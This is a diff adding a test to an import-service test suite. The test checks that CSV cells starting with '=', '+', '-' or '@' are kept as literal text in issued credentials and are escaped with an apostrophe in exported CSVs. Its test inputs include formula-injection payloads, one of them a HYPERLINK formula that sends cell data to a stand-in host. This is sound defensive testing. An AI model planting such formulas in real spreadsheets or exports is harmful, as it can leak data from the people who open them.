@@ -1,6 +1,7 @@
 import { randomUUID } from 'node:crypto';
 import { answered, get, type Json, postJson, send } from '../support/http/requests';
 import { publishedTemplate } from '../support/portal/portal';
+import { contentOf } from '../support/wallets/credentials';
 import { openSession, receive } from '../support/wallets/wallet';
 import { type RunningService, startService } from '../support/service/service';
 import { startedImport, until, uploaded } from '../support/portal/imports';
@@ -55,6 +56,33 @@ describe('An import', () => {
     expect(lines[1]).toMatch(/^2,imp\/1,created,,Open,,http.*\/o\//);
     expect(lines[2]).toBe('3,imp/2,faulty,"Row 3, column “Vorname”: is required",,,');
     expect(lines[5]).toBe('6,IMP/1,duplicate,The same as row 2,,,');
+  });
+
+  it('takes cells that begin like formulas for texts, and gives spreadsheets none to calculate', async () => {
+    const templateId = await publishedTemplate(url, { schema });
+    const names = ['=1+1', '+49', '-5', '@SUM(A1)', '=HYPERLINK("https://x.example?"&A1;"Erika")'];
+    const lines = names.map((name) => `"${name.replaceAll('"', '""')}","${name[0]}ref-${name.length}"`);
+    const importId = await startedImport(url, templateId, `Vorname,Reference\n${lines.join('\n')}\n,@none\n`);
+    await until(url, importId, 'Done');
+    const created = await rowsOf(importId, 'created');
+    const claims = created.map(async ({ credentialId }) => {
+      const { credentialOffer } = answered(200, await get(`${url}/v0/offers/${String(credentialId)}`));
+      const [credential = ''] = await receive(String(credentialOffer));
+      return contentOf(credential).claims['given_name'];
+    });
+    expect(await Promise.all(claims)).toEqual(names);
+    const separators = { comma: ',', semicolon: ';', tab: '\t' };
+    for (const [name, separator] of Object.entries(separators)) {
+      const { text: result } = await get(`${url}/v0/imports/${importId}/result.csv?separator=${name}`);
+      const cells = result
+        .trimEnd()
+        .split('\r\n')
+        .slice(1)
+        .flatMap((line) => line.split(separator))
+        .map((cell) => cell.replace(/^"/, ''));
+      expect(cells).toEqual(expect.arrayContaining(["'=ref-4", "'+ref-3", "'-ref-2", "'@ref-8", "'@none"]));
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    }
   });
 
   it('knows the rows of the same file that were offered, and those that wallets have', async () => {
